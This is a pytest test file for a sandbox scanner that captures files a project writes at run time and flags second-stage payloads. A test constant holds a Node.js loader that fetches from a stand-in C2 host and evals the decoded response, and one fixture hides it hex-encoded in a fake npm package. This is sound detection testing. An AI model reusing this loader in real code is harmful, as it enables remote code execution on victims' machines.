"""Second stages: what is written while a project runs."""

import json
import shutil
import sys
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from lazaretto.adapters.sandbox.session import Order, run_order
from lazaretto.adapters.sandbox.written import Kept, Written
from lazaretto.app.run_written import examine_written, harmful
from lazaretto.cli.main import main
from lazaretto.model.finding import Phase

pytestmark = [pytest.mark.sandbox, pytest.mark.skipif(sys.platform != "linux", reason="Linux only")]
PYTHON = "/usr/bin/python3"
STAGE = (
    "const h = require('https');\n"
    "h.get('https://c2.invalid/p', r => { let d = ''; r.on('data', c => d += c);"
    " r.on('end', () => eval(Buffer.from(d, 'base64').toString())); });\n"
)


def written(tools, project, script):
    told = run_order(Order(project, ("/bin/sh", "-c", script), Phase.RUN, 40), tools)
    return {one.path: one.content for one in told.written}


def test_files_of_every_place_are_taken(tools, project):
    (project / "own.txt").write_text("own")
    found = written(
        tools,
        project,
        "echo a > made.js; echo b >> own.txt; echo c > $HOME/.hidden; echo d > /tmp/x; echo e > /dev/shm/y;"
        "mkdir d; echo f > d/g; mv d moved; ln -s /etc/passwd link; cat own.txt > /dev/null",
    )
    inside = f"/home/dev/work/{project.name}"
    assert found.pop(f"{inside}/moved/g") == b"f\n"
    assert found == {
        f"{inside}/made.js": b"a\n",
        f"{inside}/own.txt": b"ownb\n",
        "/home/dev/.hidden": b"c\n",
        "/tmp/x": b"d\n",
        "/dev/shm/y": b"e\n",
    }


def test_what_is_deleted_or_in_memory_is_taken(tools, project):
    code = (
        "import os\n"
        "fd = os.memfd_create('x')\n"
        "os.write(fd, open('/bin/true', 'rb').read())\n"
        "if os.fork() == 0: os.execve(fd, ['true'], {})\n"
        "os.wait()\n"
    )
    (project / "a.py").write_text(code)
    found = written(tools, project, f"echo stage > /tmp/gone; rm /tmp/gone; {PYTHON} a.py")
    assert found["/tmp/gone"] == b"stage\n"
    (memory,) = [content for path, content in found.items() if path.startswith("/proc/self/fd/")]
    assert memory == Path("/bin/true").read_bytes()


def test_code_of_a_command_line_is_taken(tools, project):
    code = "import os; " + "x = 1; " * 2000
    found = written(tools, project, f"{PYTHON} -c '{code}'; true")
    assert [content for path, content in found.items() if path.endswith("-python.py")] == [code.encode()]


def test_a_link_leads_nowhere(tools, project):
    secret = Path(tempfile.mkdtemp(prefix="lazaretto-"), "secret")
    secret.write_text("host secret")
    try:
        script = (
            f"ln -s {secret.parent} d; ln -s {secret} f; : > f; mkdir e; : > e/secret; rm -r e; ln -s {secret.parent} e"
        )
        assert b"host secret" not in b"".join(written(tools, project, script).values())
        assert secret.read_text() == "host secret"
    finally:
        shutil.rmtree(secret.parent)


def test_there_is_a_bound():
    kept = Kept()
    for number in range(3000):
        if kept.room():
            kept.take(f"/{number}", b"%d" % number)
    assert (len(kept.files), kept.left) == (2000, 1000)


def test_a_second_stage_is_examined():
    files = [Written("/home/dev/.cache/x.js", STAGE.encode()), Written("/tmp/fine.js", b"1;")]
    findings, gaps = examine_written(files, datetime.now(UTC))
    assert harmful(findings, files) == (("/home/dev/.cache/x.js", "js/remote-code-executed"),)
    assert gaps == []
    assert examine_written([], datetime.now(UTC)) == ([], [])


def test_a_second_stage_makes_the_verdict(project, capsys):
    packed = STAGE.encode().hex()
    (project / "index.js").write_text(
        f"require('fs').writeFileSync('/tmp/s.js', Buffer.from('{packed}'.split('').reverse().reverse().join(''), 'hex'))"
    )
    (project / "package.json").write_text('{"name": "p", "version": "1.0.0", "scripts": {"start": "node index.js"}}')
    main(["run", str(project), "--no-progress", "--offline", "--lang", "en", "--format", "json"])
    document = json.loads(capsys.readouterr().out)
    told = {one["rule"]: one for one in document["report"]["findings"]}
    assert "/tmp/s.js" in told["run/writes-harmful-code"]["message"]
    assert "npm:p@1.0.0 start" in told["run/writes-harmful-code"]["message"]
    assert "js/remote-code-executed" in told
    assert document["report"]["verdict"]["grade"] == "malicious"
